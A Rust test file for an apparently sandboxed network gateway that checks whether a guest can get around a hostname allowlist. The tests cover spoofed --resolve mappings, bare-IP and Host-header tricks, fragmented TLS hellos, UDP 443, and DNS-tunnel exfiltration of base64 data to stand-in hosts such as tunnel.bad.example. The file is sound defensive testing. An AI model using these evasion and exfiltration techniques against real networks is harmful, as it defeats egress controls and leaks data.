//! Guests that say one name and mean another, and ways around names.

use crate::stage::{Guest, Stage};
use serde_json::json;

/// An allowed site's address, which a forbidden one has too.
const SHARED: &str = "198.51.100.20";

/// Only these two, by name.
fn named(stage: &Stage) -> Guest<'_> {
    let guest = stage.guest(&json!({
        "default": "deny", "allow": ["allowed.test.example", "good.cdn.example", "ssh.test.example"],
    }));
    // The gateway has answered for them.
    for name in ["allowed", "good"] {
        let zone = if name == "good" { "cdn" } else { "test" };
        guest
            .tries_to(&json!(["name", format!("{name}.{zone}.example")]))
            .good();
    }
    guest
}

#[test]
fn a_name_counts_only_where_it_leads_and_an_address_only_under_its_name() {
    let stage = Stage::new();
    let guest = named(&stage);
    for scheme in ["http", "https"] {
        guest.greeted_by("good.cdn.example", &format!("{scheme}://good.cdn.example/"));
    }
    // An allowed name, and the address of a site that is not.
    for (scheme, port) in [("http", 80), ("https", 443)] {
        for address in ["198.51.100.66", "[2001:db8:66::66]"] {
            let lie = format!("--resolve allowed.test.example:{port}:{address}");
            let said = guest.curl(&format!("-k {lie} {scheme}://allowed.test.example/"));
            assert!(said.is_err(), "{lie}: {said:?}");
        }
        // A name that is not allowed, and an address that is, for another name.
        let lie = format!("--resolve bad.cdn.example:{port}:{SHARED}");
        let said = guest.curl(&format!("-k {lie} {scheme}://bad.cdn.example/"));
        assert!(said.is_err(), "{lie}: {said:?}");
    }
    // No name at all.
    for arguments in [
        format!("-k https://{SHARED}/"),
        format!("http://{SHARED}/"),
        format!("--http1.0 -H Host: http://{SHARED}/"),
    ] {
        let said = guest.curl(&arguments);
        assert!(said.is_err(), "{arguments}: {said:?}");
    }
    // Before the lab itself asks the servers what they were asked.
    for address in ["198.51.100.66", "2001:db8:66::66"] {
        assert_eq!(
            stage.lab.packets_to(address.parse().unwrap()),
            [],
            "{:#}",
            guest.network()
        );
    }
    assert_eq!(stage.lab.web.requests_for("bad.cdn.example"), []);
    let asked = stage.lab.web.requests();
    assert!(
        asked
            .iter()
            .all(|request| request.host == "good.cdn.example"),
        "{asked:?}"
    );
    let refusals = guest.refusals_of("bad.cdn.example");
    assert!(!refusals.is_empty(), "{:#}", guest.network());
}

#[test]
fn every_request_of_a_connection_is_checked() {
    let stage = Stage::new();
    let guest = named(&stage);
    let (good, bad) = ("good.cdn.example", "bad.cdn.example");
    let outcomes = guest.tries(&json!([
        ["requests", SHARED, 80, [good, good, good], false],
        ["requests", SHARED, 80, [good, good, good], true],
        ["requests", SHARED, 80, [good, bad, good], false],
        ["requests", SHARED, 80, [good, bad], true],
    ]));
    let hello = format!("hello from {good}");
    for kept in &outcomes[..2] {
        assert_eq!(
            kept.found["replies"],
            json!([hello, hello, hello]),
            "{kept:?}"
        );
    }
    assert_eq!(
        outcomes[2].found["replies"],
        json!([hello]),
        "{:?}",
        outcomes[2]
    );
    for cut in &outcomes[2..] {
        assert!(cut.found["ended"].is_string(), "{cut:?}");
    }
    assert_eq!(stage.lab.web.requests_for(bad), []);
}

#[test]
fn a_hello_in_pieces_is_read_and_a_server_that_speaks_first_is_not_waited_for() {
    let stage = Stage::new();
    let guest = named(&stage);
    // So little fits into a packet that TLS' first message comes in many.
    guest.sh("sudo ip link set eth0 mtu 120");
    guest.greeted_by("good.cdn.example", "https://good.cdn.example/");
    let lie = format!("--resolve bad.cdn.example:443:{SHARED}");
    let said = guest.curl(&format!("-k {lie} https://bad.cdn.example/"));
    assert!(said.is_err(), "{said:?}");
    guest.sh("sudo ip link set eth0 mtu 1500");
    assert_eq!(stage.lab.web.requests_for("bad.cdn.example"), []);
    guest.put("/tmp/key", &std::fs::read(stage.lab.ssh_key()).unwrap());
    let ssh = "ssh -i /tmp/key -o StrictHostKeyChecking=accept-new root@ssh.test.example";
    assert_eq!(guest.sh(&format!("chmod 600 /tmp/key && {ssh}")), "welcome");
}

#[test]
fn no_name_carries_anything_out() {
    let stage = Stage::new();
    let guest = named(&stage);
    let (txt, untyped, https) = (16, 10, 65);
    let secret = "c2VjcmV0.tunnel.bad.example";
    for (what, refused) in [
        (json!(["dns", "10.0.2.2", "udp", secret, 1]), true),
        (json!(["dns", "10.0.2.2", "udp", secret, txt]), true),
        (json!(["dns", "10.0.2.2", "udp", secret, untyped]), true),
        (json!(["dns", "10.0.2.2", "tcp", secret, txt]), true),
        (
            json!([
                "dns",
                "10.0.2.2",
                "udp",
                "c2VjcmV0.allowed.test.example",
                txt
            ]),
            true,
        ),
        (
            json!(["dns", "10.0.2.2", "udp", "allowed.test.example", 1]),
            false,
        ),
    ] {
        let answer = guest.tries_to(&what);
        let code = answer.found["rcode"]
            .as_u64()
            .unwrap_or_else(|| panic!("{answer:?}"));
        // NXDOMAIN or REFUSED.
        assert_eq!(matches!(code, 3 | 5), refused, "{answer:?}");
    }
    guest
        .tries_to(&json!(["dns", "198.51.100.53", "udp", secret, txt]))
        .refused();
    let straight = guest.tries_to(&json!(["dns", "198.51.100.53", "tcp", secret, txt]));
    assert_eq!(straight.error(), "ECONNREFUSED", "{straight:?}");
    // The key that would hide the name in TLS' hello is kept from the guest.
    let key = guest.tries_to(&json!([
        "dns",
        "10.0.2.2",
        "udp",
        "allowed.test.example",
        https
    ]));
    assert_eq!(key.found["rcode"], 0, "{key:?}");
    assert_eq!(key.found["answers"], 0, "{key:?}");
    let seen = stage.lab.names.queries_below("tunnel.bad.example");
    assert_eq!(seen, Vec::<String>::new());
    let seen = stage
        .lab
        .names
        .queries_below("c2vjcmv0.allowed.test.example");
    assert_eq!(seen, Vec::<String>::new());
}

#[test]
fn names_that_are_denied_are_not_asked_for_anywhere_and_udp_443_is_refused() {
    let stage = Stage::new();
    let guest = stage.guest(&json!({ "deny": ["*.tunnel.bad.example"] }));
    let secret = "c2VjcmV0.tunnel.bad.example";
    guest.tries_to(&json!(["name", secret])).refused();
    // Past the gateway's name server, by datagram and by connection.
    guest
        .tries_to(&json!(["dns", "198.51.100.53", "udp", secret, 16]))
        .refused();
    let straight = guest.tries_to(&json!(["dns", "198.51.100.53", "tcp", secret, 16]));
    assert_eq!(straight.error(), "ECONNREFUSED", "{straight:?}");
    assert_eq!(
        stage.lab.names.queries_below("tunnel.bad.example"),
        Vec::<String>::new()
    );
    // Nobody listens there, which would be another error.
    guest
        .tries_to(&json!(["udp", "203.0.113.5", 443]))
        .refused();
    guest
        .tries_to(&json!(["udp", "2001:db8::30", 443]))
        .refused();
    guest
        .tries_to(&json!(["udp", "203.0.113.5", 7]))
        .said("hello");
    guest.greeted_by("allowed.test.example", "https://allowed.test.example/");
}
